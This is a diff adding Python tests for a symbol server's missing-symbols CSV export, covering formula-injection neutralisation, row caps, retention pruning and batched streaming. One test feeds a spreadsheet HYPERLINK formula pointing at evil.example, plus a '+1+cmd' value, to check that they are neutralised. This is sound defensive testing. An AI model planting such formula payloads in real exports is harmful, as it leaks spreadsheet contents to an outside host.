@@ -115,3 +115,58 @@ def test_flush_survives_database_errors(tmp_path):
     assert recorder.flush() == 0  # logged, kept for the next try
     assert recorder.pending_count() == 2
     recorder.stop()
+
+
+def test_missing_symbols_csv_has_no_formula_cells(svc):
+    """RT-17: query-string code_file/code_id that are not a module name and a
+    hex id are not recorded; any cell still starting like a formula is
+    neutralised."""
+    app = svc.app
+    app.get(
+        "/csvinj.pdb/ABCDEF/csvinj.sym",
+        {"code_file": '=HYPERLINK("http://evil.example/?"&A1,"click")', "code_id": "+1+cmd"},
+        status=404,
+    )
+    app.get("/-evil.pdb/ABCDEF/-evil.sym", status=404)
+    svc.ctx.missing.flush()
+    lines = list(csv.reader(io.StringIO(app.get("/missingsymbols.csv?today").text)))
+    assert ["csvinj.pdb", "ABCDEF", "", ""] in lines
+    assert ["'-evil.pdb", "ABCDEF", "", ""] in lines
+    for line in lines:
+        for cell in line:
+            assert cell[:1] not in ("=", "+", "-", "@"), line
+
+
+def test_missing_symbols_are_capped_and_pruned(make_service):
+    svc = make_service({"SYMBOLS_MISSING_SYMBOLS_MAX_ROWS": "3"})
+    app, db = svc.app, svc.ctx.db
+    for i in range(3):
+        app.get(f"/m{i}.pdb/ABCDEF/m{i}.sym", status=404)
+    svc.ctx.missing.flush()
+    for i in range(6):
+        app.get(f"/m{i}.pdb/ABCDEF/m{i}.sym", status=404)
+    svc.ctx.missing.flush()
+    found = rows(db)
+    assert len(found) == 3 and all(r["count"] == 2 for r in found)  # counted, not grown
+    # Retention: rows not seen for the retention period are deleted.
+    from tecken_symbols.missing import prune
+
+    db.execute(
+        "UPDATE missing_symbols SET modified_at = ? WHERE debug_file = ?",
+        (utcnow() - timedelta(days=31), "m0.pdb"),
+    )
+    assert prune(db, 30) == 1
+    assert [r["debug_file"] for r in rows(db)] == ["m1.pdb", "m2.pdb"]
+
+
+def test_missing_symbols_csv_is_streamed_in_batches(svc):
+    from tecken_symbols import missing
+
+    db = svc.ctx.db
+    for i in range(25):
+        svc.app.get(f"/s{i:02}.pdb/ABCDEF/s{i:02}.sym", status=404)
+    svc.ctx.missing.flush()
+    batches = list(missing.csv_rows(db, missing.cutoff(True), batch=10))
+    assert len(batches) == 25 and len({r["id"] for r in batches}) == 25
+    resp = svc.app.get("/missingsymbols.csv?today")
+    assert len(resp.text.splitlines()) == 26
